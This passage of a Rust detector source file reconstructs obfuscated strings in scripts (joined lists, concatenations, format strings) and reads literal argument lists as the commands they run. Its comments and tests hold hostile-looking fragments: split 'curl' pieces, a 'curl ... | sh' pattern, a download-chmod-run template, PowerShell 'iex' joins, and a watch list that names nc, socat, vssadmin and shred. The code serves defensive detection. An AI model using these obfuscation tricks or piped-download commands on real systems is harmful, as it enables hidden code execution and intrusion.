//! A string kept in pieces: a list of string literals (`['cu', 'rl', ...]`,
//! `[]string{"cu", "rl"}`, `@('cu', 'rl')`) that a script joins at run time
//! with nothing between them (`''.join(p)`, `p.join('')`, Ruby's bare
//! `p.join`, `strings.Join(p, "")`, `implode('', $p)`, `-join $p`), read
//! with each such list joined. Pure, and bounded: lists, pieces, bytes
//! joined and the blanks skipped between two tokens.

/// Most lists of string literals read from one file, most pieces in one,
/// and most bytes of one joined.
const MAX_LISTS: usize = 16;
const MAX_PIECES: usize = 64;
const MAX_JOINED_BYTES: usize = 4096;
/// Fewest pieces in a list worth reading joined: two are a pair of
/// arguments far more often than a hidden word, unless the list is joined
/// right where it is written (`%w[6375 7368].join`).
const MIN_PIECES: usize = 3;
const MIN_PIECES_JOINED_IN_PLACE: usize = 2;
/// Most blanks (spaces, tabs, newlines) between two tokens of a list.
const MAX_BLANKS: usize = 256;
/// Most openings (`[`, `{`, `(`) tried as the start of a list in one file.
const MAX_OPENINGS: usize = 100_000;
/// Most bytes read by all the attempts at lists and formats of one file
/// together: each attempt is bounded, this bounds their sum.
const MAX_BYTES_READ: usize = 4 * 1024 * 1024;

/// Bytes of budget per byte of the file, on top of [`MAX_BYTES_READ`].
const BUDGET_PER_BYTE: usize = 16;

/// What is left of [`MAX_BYTES_READ`] for one file.
#[derive(Debug)]
struct Budget(std::cell::Cell<usize>);

impl Budget {
    /// The budget of a file of `len` bytes: a constant and a multiple of
    /// its length, so that ordinary lists in front of a hidden one do not
    /// spend it (only attempts that each read far, nested, can).
    fn new(len: usize) -> Self {
        Self(std::cell::Cell::new(
            MAX_BYTES_READ.saturating_add(len.saturating_mul(BUDGET_PER_BYTE)),
        ))
    }

    /// Takes `n` bytes from the budget: None once it is spent.
    fn spend(&self, n: usize) -> Option<()> {
        let left = self.0.get().checked_sub(n)?;
        self.0.set(left);
        Some(())
    }
}

/// How a script joins strings with nothing between them, in the languages
/// skills ship scripts in: any of these and the script is read joined.
const EMPTY_JOINS: &[&[u8]] = &[
    b".join('')",
    b".join(\"\")",
    b".join(``)",
    b"''.join(",
    b"\"\".join(",
    b"join('',",
    b"join(\"\",",
    b"join '',",
    b"join \"\",",
    b"Join(\"\",",
    b"Join('',",
    b"implode('',",
    b"implode(\"\",",
    b"implode($",
    b"-join ",
    b"-join(",
    b"-join'",
    b"-join\"",
    b"table.concat(",
    b"joinToString(\"\")",
    b"joinToString()",
    b"::Concat(",
    b".concat(",
];

/// How a script reverses what it joins.
const REVERSALS: &[&[u8]] = &[
    b".reverse()",
    b"[::-1]",
    b"reversed(",
    b"strrev(",
    b"::Reverse(",
    b".reverse\n",
    b".reverse.",
    b".reverse)",
    b"reverse @",
    b"reverse(@",
    b".reversed()",
];

/// A script read with its lists of pieces joined.
#[derive(Debug, PartialEq, Eq)]
pub struct JoinedLists {
    /// The script, lines put: the line a list opens on holds its readings
    /// (one a line while the list has lines to spare, then after a tab),
    /// the lines after it up to the one it closes on are emptied (that one
    /// keeps what follows the list).
    pub text: String,
    /// Each reading of each list, with the (1-based) line the list opens
    /// on: for the decoder, as a joined list may be an encoded run.
    pub readings: Vec<(u32, String)>,
}

/// `text` with every string it builds from literals read built: each list
/// of string literals of [`MIN_PIECES`] pieces or more joined, when the
/// script joins with an empty separator (as written, and when it also
/// reverses, `.reverse()`, `[::-1]`, `strrev`, with its characters
/// reversed and with its pieces in reverse order); each format string
/// filled with its arguments ([`Format`]). None when there is neither.
pub fn joined_lists(text: &str) -> Option<JoinedLists> {
    let bytes = text.as_bytes();
    let has = |needle: &[u8]| memchr::memmem::find(bytes, needle).is_some();
    let ruby_bare_join = memchr::memmem::find_iter(bytes, b".join").any(|at| {
        matches!(
            bytes.get(at + 5),
            None | Some(b'\n' | b' ' | b')' | b'.' | b';' | b',' | b'\r')
        )
    });
    let go_join = has(b"strings.Join(") && has(b", \"\")");
    let joins = EMPTY_JOINS.iter().any(|n| has(n)) || ruby_bare_join || go_join;
    let reverses = REVERSALS.iter().any(|n| has(n));
    let mut built: Vec<Built> = Vec::new();
    let budget = Budget::new(bytes.len());
    if joins {
        built.extend(
            memchr::memchr3_iter(b'[', b'{', b'(', bytes)
                .take(MAX_OPENINGS)
                .filter_map(|at| List::at(bytes, at, &budget))
                .map(|list| {
                    let mut readings = vec![list.pieces.concat()];
                    if reverses {
                        readings.push(readings[0].chars().rev().collect());
                        readings.push(list.pieces.iter().rev().map(String::as_str).collect());
                    }
                    Built {
                        open: list.open,
                        close: list.close,
                        readings,
                    }
                }),
        );
    }
    built.extend(concatenations(bytes, &budget));
    built.extend(Format::all(bytes, &budget).map(|f| Built {
        open: f.open,
        close: f.close,
        readings: vec![f.filled],
    }));
    built.sort_by_key(|b| b.open);
    // One inside another's span (a piece that holds a bracket, a list
    // that is a format's argument) is not read twice.
    let mut end = 0usize;
    built.retain(|b| {
        let keep = b.open >= end;
        end = end.max(b.close + 1);
        keep
    });
    // A command run from a list of literals is read as its command line
    // beside what is read there already (a list of pieces that starts
    // with a program's name, a format inside the list), never instead.
    for command in argv_commands(bytes, &budget).take(MAX_COMMANDS) {
        let at = built.partition_point(|b| b.close < command.open);
        match built.get_mut(at) {
            Some(b) if b.open <= command.close => {
                if b.readings.len() < MAX_READINGS {
                    b.readings.extend(command.readings);
                }
            }
            _ => built.insert(at, command),
        }
    }
    if built.is_empty() {
        return None;
    }
    let mut lines: Vec<String> = text.split('\n').map(str::to_owned).collect();
    let mut readings = Vec::new();
    let mut line = 0usize;
    let mut counted = 0usize;
    let mut line_of = |at: usize| {
        line += bytes[counted..at].iter().filter(|&&b| b == b'\n').count();
        counted = at;
        line
    };
    let placed: Vec<(usize, usize, String, String, Vec<String>)> = built
        .into_iter()
        .map(|b| {
            let (first, last) = (line_of(b.open), line_of(b.close));
            // What follows on the closing line, cut short: a construct a
            // line, each copying the rest of a megabyte line, was a
            // gigabyte (the review of round 32's fixes).
            let tail = text[b.close..].split('\n').next().unwrap_or_default();
            let mut cut = tail.len().min(MAX_TAIL);
            while !tail.is_char_boundary(cut) {
                cut -= 1;
            }
            let tail = &tail[..cut];
            // What stands before it on its opening line, cut as short
            // (`$p = $wc.(` before `"Download" + "String"`): the name the
            // built string is given, or the call it is handed to, reads
            // with it.
            let head = &text[..b.open];
            let head = &head[head.rfind('\n').map_or(0, |n| n + 1)..];
            let mut from = head.len().saturating_sub(MAX_TAIL);
            while !head.is_char_boundary(from) {
                from += 1;
            }
            // Kept apart from a name it would run into (`git(` opens a list
            // read as `git push ...`: `gitgit push` would hide the command).
            let mut head = head[from..].to_owned();
            if head.ends_with(|c: char| c.is_alphanumeric() || c == '_' || c == '.') {
                head.push(' ');
            }
            (first, last, head, tail.to_owned(), b.readings)
        })
        .collect();
    let mut placed_on: Option<usize> = None;
    for (first, last, head, tail, these) in placed {
        // A second construct on the line of the one before is read after
        // it, not over it, while the line is short enough.
        let again = placed_on == Some(first);
        if again && lines[first].len() >= MAX_LINE_READ {
            continue;
        }
        placed_on = Some(last);
        if first < last {
            lines[last].clone_from(&tail);
            for line in &mut lines[first + 1..last] {
                line.clear();
            }
        }
        let mut on_first: Vec<&str> = Vec::new();
        for (k, reading) in these.iter().enumerate() {
            if k > 0 && first + k < last {
                lines[first + k].clone_from(reading);
            } else {
                on_first.push(reading);
            }
        }
        if again {
            lines[first].push('\t');
            lines[first].push_str(&on_first.join("\t"));
        } else {
            lines[first] = format!("{head}{}", on_first.join("\t"));
        }
        // What follows the construct on its closing line reads after it
        // (`''.join([...]) + ' | sh'`).
        let after = tail.get(1..).unwrap_or_default().trim();
        if !after.is_empty() {
            lines[first].push(' ');
            lines[first].push_str(after);
        }
        // The readings decoded: the first few lists' (the rewritten text
        // holds them all).
        if readings.len() < MAX_LISTS * 3 {
            readings.extend(these.into_iter().map(|r| (first as u32 + 1, r)));
        }
    }
    Some(JoinedLists {
        text: lines.join("\n"),
        readings,
    })
}

/// Programs whose argument lists, written as string literals, read as the
/// command they run.
const PROGRAMS: &[&str] = &[
    "git",
    "curl",
    "wget",
    "bash",
    "sh",
    "zsh",
    "rm",
    "ssh",
    "scp",
    "nc",
    "ncat",
    "socat",
    "python",
    "python3",
    "node",
    "perl",
    "ruby",
    "chmod",
    "chown",
    "crontab",
    "npm",
    "npx",
    "pip",
    "pip3",
    "powershell",
    "pwsh",
    "sudo",
    "docker",
    "kubectl",
    "aws",
    "gh",
    "rsync",
    "launchctl",
    "systemctl",
    "dd",
    "shred",
    "psql",
    "mysql",
    "vssadmin",
    "wbadmin",
    "tmutil",
    "wmic",
    "bcdedit",
    "diskutil",
    "schtasks",
    "reg",
    "cmd",
    "snapper",
    "gsutil",
    "gcloud",
    "az",
    "helm",
    "find",
    "chattr",
    "userdel",
    "terraform",
];

/// Most arguments of one command read.
const MAX_ARGS: usize = 32;
/// Most bytes of what follows a construct on its line read after it, and
/// most bytes a line of readings grows to.
const MAX_TAIL: usize = 4096;
const MAX_LINE_READ: usize = 64 * 1024;
/// Most commands read from argument lists in one file, and most readings
/// of one construct (its own and the commands read over it).
const MAX_COMMANDS: usize = 256;
const MAX_READINGS: usize = 6;

/// Functions that run the program their first argument names.
const LAUNCHERS: &[&str] = &[
    "system",
    "exec",
    "execFile",
    "execFileSync",
    "spawn",
    "spawnSync",
    "Popen",
    "call",
    "check_call",
    "check_output",
    "execvp",
    "execlp",
    "run",
];

/// Commands a script runs from an argument list of string literals, read
/// as a command line: `subprocess.run(["git", "push", "--force", ...])`
/// (a tuple too), Ruby's `system("git", "push", ...)`, Node's
/// `spawn("git", ["push", ...])`, a wrapper named for its program
/// (`git("push", "--force", "origin", "main")`, `run_git(...)`). The
/// literals are read up to the first argument that is not one.
fn argv_commands<'a>(bytes: &'a [u8], budget: &'a Budget) -> impl Iterator<Item = Built> + 'a {
    memchr::memchr2_iter(b'(', b'[', bytes)
        .take(MAX_OPENINGS)
        .filter_map(move |open| argv_at(bytes, open, budget))
}

/// The command whose argument list opens at `open`, if it names a program.
fn argv_at(bytes: &[u8], open: usize, budget: &Budget) -> Option<Built> {
    let mut words: Vec<String> = Vec::new();
    let name = if bytes[open] == b'(' {
        name_before(bytes, open)?
    } else {
        ""
    };
    let name = name.trim_start_matches('_');
    let name = name.strip_prefix("run_").unwrap_or(name);
    let name = name.strip_suffix("_cmd").unwrap_or(name);
    if PROGRAMS.contains(&name) {
        words.push(name.to_owned());
    } else if !name.is_empty() && !LAUNCHERS.contains(&name) {
        return None;
    } else if name.is_empty() && !runs_bare_list(bytes, open) {
        // A bare list of a program's words is data (a denylist, a test's
        // parameters) unless a launcher takes it or its name says command.
        return None;
    }
    let mut at = open + 1;
    let mut close = None;
    while words.len() < MAX_ARGS {
        at = skip_blanks(bytes, at, budget)?;
        let Some((piece, after)) = literal(bytes, at, budget) else {
            break;
        };
        words.push(std::str::from_utf8(piece).ok()?.to_owned());
        close = Some(after - 1);
        at = skip_blanks(bytes, after, budget)?;
        if bytes.get(at) != Some(&b',') {
            break;
        }
        at = skip_blanks(bytes, at + 1, budget)?;
        // Node's arguments after the program, in an array of their own.
        if words.len() == 1 && bytes.get(at) == Some(&b'[') {
            at += 1;
        }
    }
    let program = words
        .first()?
        .rsplit(['/', '\\'])
        .next()?
        .to_ascii_lowercase();
    let program = program.strip_suffix(".exe").unwrap_or(&program);
    if words.len() < 2 || !PROGRAMS.contains(&program) {
        return None;
    }
    Some(Built {
        open,
        close: close?,
        readings: vec![words.join(" ")],
    })
}

/// The name of the function called with the parenthesis at `open`
/// (empty for a bare parenthesis); None if it is not valid UTF-8.
fn name_before(bytes: &[u8], open: usize) -> Option<&str> {
    let len = bytes[..open]
        .iter()
        .rev()
        .take(33)
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    std::str::from_utf8(&bytes[open - len..open]).ok()
}

/// Whether the bare list opening at `open` is run: it is the first
/// argument of a launcher (`subprocess.run([...])`, `Popen((...))`), or
/// the words just before it name a command (`CMDS = {"win": [[...]]}`).
fn runs_bare_list(bytes: &[u8], open: usize) -> bool {
    let before = &bytes[open.saturating_sub(120)..open];
    let launched = before
        .iter()
        .rposition(|b| !b.is_ascii_whitespace())
        .filter(|&i| before[i] == b'(')
        .and_then(|i| name_before(bytes, open - before.len() + i))
        .is_some_and(|name| LAUNCHERS.contains(&name));
    let lower = before.to_ascii_lowercase();
    launched
        || [&b"cmd"[..], b"command", b"argv"]
            .iter()
            .any(|w| memchr::memmem::find(&lower, w).is_some())
}

/// A string a script builds, where its construction opens and closes in
/// the text, and how it reads built.
#[derive(Debug)]
struct Built {
    open: usize,
    close: usize,
    readings: Vec<String>,
}

/// Most arguments of a format read.
const MAX_FORMAT_ARGS: usize = 32;

/// A format string filled with its arguments at run time: Rust's
/// `format!("{} -fsSL {}", "curl", url)`, Go's `fmt.Sprintf`, Java's
/// `String.format`, C's and PHP's `sprintf`, Python's
/// `"{} {}".format(a, b)` and `"%s %s" % (a, b)`. A literal argument is put
/// in as written; any other as `$ARG1`, `$ARG2` ..., the same name for the
/// same expression, so `-o {} && chmod +x {} && {}` of one path reads as a
/// download made executable and run.
#[derive(Debug)]
struct Format {
    open: usize,
    close: usize,
    filled: String,
}

impl Format {
    /// Every format of `bytes` (the openings bounded by [`MAX_OPENINGS`]).
    fn all<'a>(bytes: &'a [u8], budget: &'a Budget) -> impl Iterator<Item = Self> + 'a {
        const CALLS: &[&[u8]] = &[b"format!(", b"Sprintf(", b"String.format(", b"sprintf("];
        let calls = CALLS
            .iter()
            .flat_map(move |call| {
                memchr::memmem::find_iter(bytes, call).map(move |at| (at, at + call.len()))
            })
            .take(MAX_OPENINGS)
            .filter_map(move |(open, at)| Self::call(bytes, open, at, budget));
        let methods = memchr::memmem::find_iter(bytes, b".format(")
            .take(MAX_OPENINGS)
            .filter_map(move |at| Self::method(bytes, at, budget));
        let percents = memchr::memchr_iter(b'%', bytes)
            .take(MAX_OPENINGS)
            .filter_map(move |at| Self::percent(bytes, at, budget));
        calls.chain(methods).chain(percents)
    }

    /// `name(` at `open`, its format string at `at`, then its arguments.
    fn call(bytes: &[u8], open: usize, at: usize, budget: &Budget) -> Option<Self> {
        let at = skip_blanks(bytes, at, budget)?;
        let (template, after) = literal(bytes, at, budget)?;
        let at = skip_blanks(bytes, after, budget)?;
        if bytes.get(at) != Some(&b',') {
            return None;
        }
        let (args, close) = arguments(bytes, at + 1, b')', budget)?;
        Some(Self {
            open,
            close,
            filled: fill(template, &args)?,
        })
    }

    /// `"...".format(` with the `.` at `dot`.
    fn method(bytes: &[u8], dot: usize, budget: &Budget) -> Option<Self> {
        let (template, open) = literal_before(bytes, dot, budget)?;
        let (args, close) = arguments(bytes, dot + ".format(".len(), b')', budget)?;
        Some(Self {
            open,
            close,
            filled: fill(template, &args)?,
        })
    }

    /// `"..." % (a, b)` with the `%` at `at`.
    fn percent(bytes: &[u8], at: usize, budget: &Budget) -> Option<Self> {
        let before = bytes[..at]
            .iter()
            .rposition(|b| !matches!(b, b' ' | b'\t'))?;
        let (template, open) = literal_before(bytes, before + 1, budget)?;
        let paren = skip_blanks(bytes, at + 1, budget)?;
        if bytes.get(paren) != Some(&b'(') {
            return None;
        }
        let (args, close) = arguments(bytes, paren + 1, b')', budget)?;
        Some(Self {
            open,
            close,
            filled: fill(template, &args)?,
        })
    }
}

/// The string literal that ends right before `end` (its closing quote at
/// `end - 1`), and where it opens.
fn literal_before<'b>(bytes: &'b [u8], end: usize, budget: &Budget) -> Option<(&'b [u8], usize)> {
    let quote = *bytes
        .get(end.checked_sub(1)?)
        .filter(|q| matches!(q, b'\'' | b'"'))?;
    let body = &bytes[..end - 1];
    // A literal of a format is at most MAX_JOINED_BYTES long.
    let from = body.len().saturating_sub(MAX_JOINED_BYTES + 1);
    let open = from + memchr::memrchr3(quote, b'\n', b'\\', &body[from..])?;
    budget.spend(body.len() - open)?;
    if body[open] != quote {
        return None;
    }
    let start = match open.checked_sub(1).map(|i| bytes[i]) {
        Some(b'f' | b'F') => return None,
        Some(b'r' | b'b' | b'u' | b'R' | b'B' | b'U') => open - 1,
        _ => open,
    };
    Some((&body[open + 1..], start))
}

/// The arguments from `at` up to the `closer` that ends them: each a
/// string literal's text, or the text of any other expression (brackets
/// balanced, literals skipped); and where the closer is. Bounded by
/// [`MAX_FORMAT_ARGS`], [`MAX_JOINED_BYTES`] and [`MAX_BLANKS`].
fn arguments(
    bytes: &[u8],
    mut at: usize,
    closer: u8,
    budget: &Budget,
) -> Option<(Vec<Arg>, usize)> {
    let mut args = Vec::new();
    let limit = at + MAX_JOINED_BYTES;
    loop {
        at = skip_blanks(bytes, at, budget)?;
        if bytes.get(at) == Some(&closer) {
            return Some((args, at));
        }
        if args.len() >= MAX_FORMAT_ARGS {
            return None;
        }
        let start = at;
        let mut depth = 0usize;
        let mut only_literal = true;
        let mut literal_text: Option<&[u8]> = None;
        loop {
            if at >= limit {
                return None;
            }
            budget.spend(1)?;
            match *bytes.get(at)? {
                b'\'' | b'"' | b'`' => {
                    let (text, after) = literal(bytes, at, budget)?;
                    if literal_text.is_some() {
                        only_literal = false;
                    }
                    literal_text = Some(text);
                    at = after;
                }
                b'(' | b'[' | b'{' => {
                    depth += 1;
                    only_literal = false;
                    at += 1;
                }
                b')' | b']' | b'}' if depth > 0 => {
                    depth -= 1;
                    at += 1;
                }
                b',' if depth == 0 => break,
                c if c == closer && depth == 0 => break,
                b' ' | b'\t' | b'\n' | b'\r' => at += 1,
                _ => {
                    only_literal = false;
                    at += 1;
                }
            }
        }
        let expression = std::str::from_utf8(&bytes[start..at]).ok()?.trim();
        args.push(match literal_text.filter(|_| only_literal) {
            Some(text) => Arg::Literal(std::str::from_utf8(text).ok()?.to_owned()),
            None => Arg::Expression(expression.to_owned()),
        });
        if bytes.get(at) == Some(&b',') {
            at += 1;
        }
    }
}

/// One argument of a format.
#[derive(Debug)]
enum Arg {
    Literal(String),
    Expression(String),
}

/// `template` with its placeholders (`{}`, `{0}`, `{:?}`, `%s`, `%v`, `%d`)
/// put in from `args`, in order or by index; None when it has none or an
/// argument is missing (not a format after all).
fn fill(template: &[u8], args: &[Arg]) -> Option<String> {
    let template = std::str::from_utf8(template).ok()?;
    let mut names: Vec<&str> = Vec::new();
    let mut text = |i: usize| -> Option<String> {
        Some(match args.get(i)? {
            Arg::Literal(s) => s.clone(),
            Arg::Expression(e) => {
                let k = names.iter().position(|n| n == e).unwrap_or_else(|| {
                    names.push(e);
                    names.len() - 1
                });
                format!("$ARG{}", k + 1)
            }
        })
    };
    let mut out = String::new();
    let mut next = 0usize;
    let mut placed = 0usize;
    let mut rest = template;
    while let Some(at) = rest.find(['{', '%']) {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        if rest.as_bytes()[at] == b'{' {
            if let Some(inner) = after.strip_prefix('{') {
                out.push('{');
                rest = inner;
                continue;
            }
            let end = after.find('}')?;
            let spec = &after[..end];
            let index = spec.split(':').next().unwrap_or("");
            let i = if index.is_empty() {
                next += 1;
                next - 1
            } else {
                index.parse().ok()?
            };
            out.push_str(&text(i)?);
            placed += 1;
            rest = &after[end + 1..];
        } else {
            match after.as_bytes().first() {
                Some(b's' | b'v' | b'd' | b'q') => {
                    out.push_str(&text(next)?);
                    next += 1;
                    placed += 1;
                    rest = &after[1..];
                }
                _ => {
                    out.push('%');
                    rest = after;
                }
            }
        }
    }
    out.push_str(rest);
    (placed > 0).then_some(out)
}

/// One list of string literals: where it opens and closes, its pieces.
#[derive(Debug)]
struct List {
    open: usize,
    close: usize,
    pieces: Vec<String>,
}

impl List {
    /// The list that opens at `open` (a `[`, `{` or `(`), when it holds
    /// only string literals, [`MIN_PIECES`] or more (two if it is joined
    /// right after it closes), separated by commas (one after the last
    /// allowed) and closes with the matching bracket; or Ruby's list of
    /// words (`%w[cu rl]`).
    fn at(bytes: &[u8], open: usize, budget: &Budget) -> Option<Self> {
        let list = Self::read(bytes, open, budget)?;
        (list.pieces.len() >= MIN_PIECES || joined_in_place(bytes, list.close)).then_some(list)
    }

    fn read(bytes: &[u8], open: usize, budget: &Budget) -> Option<Self> {
        let closer = match bytes[open] {
            b'[' => b']',
            b'{' => b'}',
            _ => b')',
        };
        if open >= 2 && bytes[open - 2] == b'%' && matches!(bytes[open - 1], b'w' | b'W') {
            return Self::words(bytes, open, closer, budget);
        }
        let mut at = open + 1;
        let mut pieces: Vec<String> = Vec::new();
        let mut bytes_joined = 0usize;
        loop {
            at = skip_blanks(bytes, at, budget)?;
            if bytes.get(at) == Some(&closer) && pieces.len() >= MIN_PIECES_JOINED_IN_PLACE {
                break;
            }
            let (piece, after) = literal(bytes, at, budget)?;
            bytes_joined += piece.len();
            if pieces.len() >= MAX_PIECES || bytes_joined > MAX_JOINED_BYTES {
                return None;
            }
            pieces.push(std::str::from_utf8(piece).ok()?.to_owned());
            at = skip_blanks(bytes, after, budget)?;
            match bytes.get(at) {
                Some(b',') => at += 1,
                Some(&c) if c == closer && pieces.len() >= MIN_PIECES_JOINED_IN_PLACE => break,
                _ => return None,
            }
        }
        Some(Self {
            open,
            close: at,
            pieces,
        })
    }
}

impl List {
    /// Ruby's list of words opening at `open` (after `%w`): words between
    /// blanks up to `closer`, none with an escape.
    fn words(bytes: &[u8], open: usize, closer: u8, budget: &Budget) -> Option<Self> {
        let mut at = open + 1;
        let mut pieces: Vec<String> = Vec::new();
        let mut bytes_joined = 0usize;
        loop {
            at = skip_blanks(bytes, at, budget)?;
            match bytes.get(at)? {
                &c if c == closer => break,
                b'\\' => return None,
                _ => {}
            }
            let rest = &bytes[at..bytes.len().min(at + MAX_JOINED_BYTES + 1)];
            let len = rest
                .iter()
                .position(|&b| b == closer || b == b'\\' || b.is_ascii_whitespace())
                .unwrap_or(rest.len());
            budget.spend(len)?;
            bytes_joined += len;
            if pieces.len() >= MAX_PIECES || bytes_joined > MAX_JOINED_BYTES {
                return None;
            }
            pieces.push(std::str::from_utf8(&rest[..len]).ok()?.to_owned());
            at += len;
        }
        (pieces.len() >= MIN_PIECES_JOINED_IN_PLACE).then_some(Self {
            open,
            close: at,
            pieces,
        })
    }
}

/// Whether the list closing at `close` is joined with nothing between
/// its pieces right there (`].join('')`, Ruby's bare `].join`).
fn joined_in_place(bytes: &[u8], close: usize) -> bool {
    let after = &bytes[(close + 1).min(bytes.len())..];
    let after = &after[..after.len().min(12)];
    [&b".join('')"[..], b".join(\"\")", b".join(``)"]
        .iter()
        .any(|j| after.starts_with(j))
        || (after.starts_with(b".join")
            && !after
                .get(5)
                .is_some_and(|&c| c == b'(' || c == b'_' || c.is_ascii_alphanumeric()))
}

/// Most `+` signs looked at in one file, and most bytes of a name read as
/// a term of a concatenation.
const MAX_PLUSES: usize = 100_000;
/// Most chains read in one file (each is placed on its line with what
/// follows it, so their number bounds that copying).
const MAX_CHAINS: usize = 256;
const MAX_NAME: usize = 64;

/// Strings built with `+` from literals in a script that splits a word
/// across two of them (`"cu" + "rl -fsSL " + host + " | s" + "h"`,
/// `"/bin/" + "s" + "h"`): each chain of two literals or more, names
/// between them written as they stand, read as the string it builds.
/// Nothing in a script without such a split (`"\n" + "=" * 60` splits
/// no word).
fn concatenations(bytes: &[u8], budget: &Budget) -> Vec<Built> {
    let pluses = || memchr::memchr_iter(b'+', bytes).take(MAX_PLUSES);
    if !pluses().any(|at| splits_a_word(bytes, at)) {
        return Vec::new();
    }
    let mut chains = Vec::new();
    let mut from = 0usize;
    while let Some(offset) = bytes
        .get(from..)
        .and_then(|rest| memchr::memchr3(b'\'', b'"', b'`', rest))
    {
        let open = from + offset;
        let Some((first, mut end)) = literal(bytes, open, budget) else {
            from = open + 1;
            continue;
        };
        let mut built = String::from_utf8_lossy(first).into_owned();
        let mut literals = 1usize;
        while let Some(plus) = skip_blanks(bytes, end, budget) {
            if bytes.get(plus) != Some(&b'+') || matches!(bytes.get(plus + 1), Some(b'+' | b'=')) {
                break;
            }
            let Some(next) = skip_blanks(bytes, plus + 1, budget) else {
                break;
            };
            if let Some((inner, after)) = literal(bytes, next, budget) {
                built.push_str(&String::from_utf8_lossy(inner));
                literals += 1;
                end = after;
            } else if let Some(after) = name_at(bytes, next) {
                if budget.spend(after - next).is_none() {
                    break;
                }
                built.push_str(&String::from_utf8_lossy(&bytes[next..after]));
                end = after;
            } else {
                break;
            }
            if built.len() > MAX_JOINED_BYTES {
                break;
            }
        }
        if literals >= 2 && built.len() <= MAX_JOINED_BYTES {
            chains.push(Built {
                open,
                close: end - 1,
                readings: vec![built],
            });
            if chains.len() >= MAX_CHAINS {
                break;
            }
        }
        from = end;
    }
    chains
}

/// True when the `+` at `at` joins two literals inside a word: a letter,
/// digit or slash ends the one before it and starts the one after it.
fn splits_a_word(bytes: &[u8], at: usize) -> bool {
    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'/';
    let before = bytes[..at].trim_ascii_end();
    let after = bytes[at + 1..].trim_ascii_start();
    matches!(before, [.., c, q] if matches!(q, b'"' | b'\'') && word(*c))
        && matches!(after, [q, c, ..] if matches!(q, b'"' | b'\'') && word(*c))
}

/// Where the name (`host`, `runtime.GOOS`, `$ShellId[1]`) at `at` ends.
fn name_at(bytes: &[u8], at: usize) -> Option<usize> {
    let rest = bytes.get(at..)?;
    let first = *rest.first()?;
    if !(first.is_ascii_alphabetic() || first == b'_' || first == b'$') {
        return None;
    }
    let mut len = rest
        .iter()
        .take(MAX_NAME)
        .take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$' | b'.'))
        .count();
    // An index into it (`$ShellId[13]`).
    if rest.get(len) == Some(&b'[') {
        let close = rest[len..].iter().take(16).position(|&b| b == b']');
        if let Some(close) = close {
            len += close + 1;
        }
    }
    Some(at + len)
}

/// Where the next token after `at` starts: None past [`MAX_BLANKS`] blanks.
fn skip_blanks(bytes: &[u8], at: usize, budget: &Budget) -> Option<usize> {
    let blanks = bytes
        .get(at..)?
        .iter()
        .take(MAX_BLANKS + 1)
        .take_while(|b| matches!(b, b' ' | b'\t' | b'\n' | b'\r'))
        .count();
    budget.spend(blanks + 1)?;
    (blanks <= MAX_BLANKS).then_some(at + blanks)
}

/// The text of the string literal at `at` (quoted with `'`, `"` or a
/// backtick, an `r`, `b` or `u` prefix allowed) and where it ends; None
/// for anything else, or for a literal with an escape, a line break or a
/// template substitution, which joining as written would misread.
fn literal<'b>(bytes: &'b [u8], at: usize, budget: &Budget) -> Option<(&'b [u8], usize)> {
    let start = match bytes.get(at)? {
        b'r' | b'b' | b'u' | b'R' | b'B' | b'U' => at + 1,
        _ => at,
    };
    let quote = *bytes
        .get(start)
        .filter(|q| matches!(q, b'\'' | b'"' | b'`'))?;
    let body = &bytes[start + 1..];
    // No piece or format is longer than MAX_JOINED_BYTES: look no further.
    let body = &body[..body.len().min(MAX_JOINED_BYTES + 1)];
    let len = memchr::memchr3(quote, b'\n', b'\\', body)?;
    budget.spend(len + 1)?;
    let inner = &body[..len];
    if body[len] != quote || (quote == b'`' && memchr::memmem::find(inner, b"${").is_some()) {
        return None;
    }
    Some((inner, start + 1 + len + 1))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lists_on_their_own_lines_are_joined_in_place() {
        let js =
            "p = [\n 'ab',\n \"cd\",\n `ef`\n];\nx = p.join('').split('').reverse().join('');\n";
        assert_eq!(
            joined_lists(js).map(|j| j.text).as_deref(),
            Some(
                "p = abcdef ;\nfedcba\nefcdab\n\n];\nx = p.join('').split('').reverse().join('');\n"
            )
        );
        let py = "p = [\n 'ab',\n 'cd',\n 'ef',\n]\nx = ''.join(p)\n";
        assert_eq!(
            joined_lists(py).map(|j| j.text).as_deref(),
            Some("p = abcdef\n\n\n\n]\nx = ''.join(p)\n")
        );
    }

    #[test]
    fn lists_on_one_line_or_closed_on_the_last_piece_are_joined() {
        let py = "cmd = ''.join(['cu', 'rl', ' -s'])\n";
        assert_eq!(
            joined_lists(py).map(|j| j.text).as_deref(),
            Some("cmd = ''.join(curl -s )\n")
        );
        let rb = "p = [\n 'ab',\n 'cd', 'ef']\nsystem(p.reverse.join)\n";
        assert_eq!(
            joined_lists(rb).map(|j| j.text).as_deref(),
            Some("p = abcdef\tefcdab\nfedcba\n]\nsystem(p.reverse.join)\n")
        );
        let go = "p := []string{\"ab\", \"cd\", \"ef\",}\ns := strings.Join(p, \"\")\n";
        assert_eq!(
            joined_lists(go).map(|j| j.text).as_deref(),
            Some("p := []string abcdef\ns := strings.Join(p, \"\")\n")
        );
        let ps = "$p = @('ab','cd','ef')\niex (-join $p)\n";
        assert_eq!(
            joined_lists(ps).map(|j| j.text).as_deref(),
            Some("$p = @abcdef\niex (-join $p)\n")
        );
        let php = "$p = array('ab', \"cd\", 'ef'); echo strrev(implode('', $p));\n";
        assert_eq!(
            joined_lists(php).map(|j| j.text).as_deref(),
            Some("$p = array abcdef\tfedcba\tefcdab ; echo strrev(implode('', $p));\n")
        );
    }

    #[test]
    fn nothing_is_joined_without_an_empty_join_or_a_list_of_three() {
        assert_eq!(joined_lists("p = [\n 'ab',\n 'cd',\n 'ef',\n]\n"), None);
        // Each reading is kept with the line the list opens on.
        let readings = joined_lists("x = 1\np = ['ab', 'cd', 'ef'][::-1]\ny = ''.join(p)\n")
            .map(|j| j.readings);
        assert_eq!(
            readings,
            Some(vec![
                (2, "abcdef".to_owned()),
                (2, "fedcba".to_owned()),
                (2, "efcdab".to_owned())
            ])
        );
        assert_eq!(joined_lists("p = ['ab', 'cd']\nx = ''.join(p)\n"), None);
        // Not only literals, an escape, a substitution: left as written.
        assert_eq!(joined_lists("x = ''.join(['a', b, 'c', 'd'])\n"), None);
        assert_eq!(joined_lists("x = ''.join(['a', 'b\\n', 'c'])\n"), None);
